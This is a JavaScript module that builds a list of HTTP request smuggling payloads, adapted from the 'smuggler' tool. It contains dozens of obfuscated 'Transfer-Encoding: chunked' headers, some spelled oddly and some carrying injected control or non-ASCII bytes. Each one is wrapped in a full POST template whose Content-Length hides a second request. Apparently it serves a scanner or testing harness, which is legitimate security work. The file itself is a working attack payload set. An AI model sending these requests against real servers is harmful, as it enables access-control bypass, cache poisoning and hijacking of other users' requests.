// Ways to write `Transfer-Encoding: chunked` so that one reader sees it and the next does not.
//
// I own: the list, after the mutations of the tool `smuggler` by Evan Custodio (github.com/defparam/smuggler, MIT), in our
// own words. I may call: nothing. I never grade by hand: each is sent beside a length, and the strict reader decides.

/** Control characters, blanks and bytes beyond ASCII that somebody's parser trims. */
const ODD = [0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff];

const spelled = [
  ['a blank in front', ' Transfer-Encoding: chunked'],
  ['a tab after the colon', 'Transfer-Encoding:\tchunked'],
  ['tabs around the colon', 'Transfer-Encoding\t:\tchunked'],
  ['a blank for the dash', 'Transfer Encoding: chunked'],
  ['an underscore for the dash', 'Transfer_Encoding: chunked'],
  ['no blank', 'Transfer-Encoding:chunked'],
  ['a blank before the colon', 'Transfer-Encoding : chunked'],
  ['two blanks', 'Transfer-Encoding:  chunked'],
  ['a vertical tab', 'Transfer-Encoding:\x0bchunked'],
  ['something after it', 'Transfer-Encoding: chunked, cow'],
  ['something before it', 'Transfer-Encoding: cow, chunked'],
  ['identity after it', 'Transfer-Encoding: chunked, identity'],
  ['an empty item after it', 'Transfer-Encoding: chunked,'],
  ['an empty item before it', 'Transfer-Encoding: ,chunked'],
  ['another header', 'Content-Encoding: chunked'],
  ['folded by a bare LF', 'Transfer-Encoding:\n chunked'],
  ['folded', 'Transfer-Encoding:\r\n chunked'],
  ['quotes', 'Transfer-Encoding: "chunked"'],
  ['apostrophes', "Transfer-Encoding: 'chunked'"],
  ['half of it', 'Transfer-Encoding: chunk'],
  ['mixed cases', 'TrAnSFer-EnCODinG: cHuNkeD'],
  ['capitals', 'TRANSFER-ENCODING: CHUNKED'],
  ['a CR at its end', 'Transfer-Encoding: chunked\r'],
  ['a tab at its end', 'Transfer-Encoding: chunked\t'],
  ['told twice, last right', 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked'],
  ['told twice, first right', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow'],
  ['told twice alike', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
  ['a CR within the name', 'Transfer-\rEncoding: chunked'],
  ['words around', 'Transfer-Encoding: cow chunked bar'],
  ['an accent in the value', 'Transfer-Encoding: ch\x96nked'],
  ['an accent in the name', 'Transf\x82r-Encoding: chunked'],
  ['behind a bare CR', 'X: X\rTransfer-Encoding: chunked'],
  ['behind a bare LF', 'X: X\nTransfer-Encoding: chunked'],
  ['a parameter', 'Transfer-Encoding: chunked;q=1'],
  ['identity', 'Transfer-Encoding: identity'],
  ['gzip', 'Transfer-Encoding: gzip'],
  ['nothing', 'Transfer-Encoding:'],
];

const places = [
  ['after the colon', (c) => `Transfer-Encoding:${c}chunked`],
  ['before the colon', (c) => `Transfer-Encoding${c}: chunked`],
  ['in front', (c) => `${c}Transfer-Encoding: chunked`],
  ['at the end', (c) => `Transfer-Encoding: chunked${c}`],
  ['behind another header', (c) => `X: X${c}Transfer-Encoding: chunked`],
  ['in front of another header', (c) => `Transfer-Encoding: chunked${c}X: X`],
  ['behind a CR', (c) => `X: X\r${c}Transfer-Encoding: chunked`],
  ['behind an LF', (c) => `X: X\n${c}Transfer-Encoding: chunked`],
  ['before a CR', (c) => `Transfer-Encoding: chunked\r${c}X: X`],
  ['before an LF', (c) => `Transfer-Encoding: chunked\n${c}X: X`],
];

const swapped = places.flatMap(([where, line]) => ODD.map((code) =>
  [`0x${code.toString(16).padStart(2, '0')} ${where}`, line(String.fromCharCode(code))]));

/** Each beside a length that covers a request inside: whoever reads the chunks takes that for the next request. */
export const mutations = [...spelled, ...swapped].map(([what, line]) => ({
  id: `a28 coding written with ${what}`,
  text: `POST {P}/x HTTP/1.1\r\nHost: {HOST}\r\n{MORE}Content-Length: {INSIDE+5}\r\n${line}\r\n\r\n0\r\n\r\n{INSIDE}`,
}));
